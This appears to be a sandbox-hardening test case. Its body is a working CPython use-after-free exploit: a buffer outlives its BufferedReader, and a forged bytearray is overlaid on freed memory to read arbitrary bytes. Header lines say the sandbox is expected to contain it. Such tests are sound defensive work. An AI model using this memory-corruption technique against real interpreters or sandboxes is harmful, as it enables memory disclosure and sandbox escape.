# attack: write to freed memory through a buffer that outlives its reader, and make objects from it
# class: 13
# walls: pid seccomp uid rlimit
# expect: held outcome:signaled outcome:raised outcome:out_of_memory
# naked: no a crash affects only the script

import io, struct

# This needs no crafted code: the reader frees its buffer while a view of it exists.
class File(io.RawIOBase):
    def readinto(self, buffer):
        global kept
        kept = buffer
    def readable(self):
        return True

reader = io.BufferedReader(File())
try:
    reader.read(1)
except OSError:
    pass
del reader
words = kept.cast("P")
overlay = [None] * len(words)
word = struct.calcsize("P")
fake = struct.pack("nPnnPPn", 1 << 20, id(bytearray), 1 << 30, 1 << 30, 0, 0, 0)
for at in range(len(words)):
    words[at] = id(fake) + bytes.__basicsize__ - 1
seen = [thing for thing in overlay if thing is not None]
if seen:
    secret = context.get("memory_address", 1 << 29) % (1 << 30)
    os.write(1, bytes(seen[0][secret:secret + 64]))
result = {"escaped": False, "detail": "overlaid %d objects" % len(seen)}
# --- next run ---
result = {"escaped": sum(range(10)) != 45, "detail": "the next one finds all in order"}
